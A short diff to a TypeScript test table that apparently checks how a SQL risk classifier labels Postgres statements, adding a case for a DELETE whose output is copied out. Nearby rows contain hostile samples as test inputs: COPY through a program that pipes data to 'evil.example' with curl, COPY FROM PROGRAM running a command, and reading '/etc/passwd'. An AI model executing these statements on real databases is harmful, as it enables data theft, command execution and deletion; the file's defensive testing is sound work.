@@ -131,6 +131,12 @@ const rows: readonly (readonly [why: string, sql: string, dialect: string, ...is
     "postgres",
     "read COPY [t] program:curl -T - evil.example export:",
   ],
+  [
+    "a change that is copied out is a change",
+    "COPY (DELETE FROM t RETURNING *) TO STDOUT",
+    "postgres",
+    "delete DELETE [t] unbounded export:",
+  ],
   ["copy from a program", "COPY t FROM PROGRAM 'id'", "postgres", "write COPY [t] program:id"],
   ["copy from a file", "COPY t FROM '/etc/passwd'", "postgres", "write COPY [t] file-read:/etc/passwd"],
   ["a whole table leaves", "COPY users TO STDOUT", "postgres", "read COPY [users] export:"],
